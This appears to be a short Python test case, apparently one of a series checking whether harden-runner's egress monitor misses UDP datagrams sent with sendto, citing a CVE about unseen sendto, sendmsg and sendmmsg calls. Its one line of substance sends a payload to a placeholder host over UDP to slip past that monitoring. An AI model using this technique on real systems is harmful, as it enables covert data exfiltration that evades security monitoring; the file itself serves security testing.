"""A datagram (harden-runner CVE-2026-25598: sendto, sendmsg, sendmmsg unseen)."""
from way import *


def way():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(WORD, (HOST, PORT))


told(way)
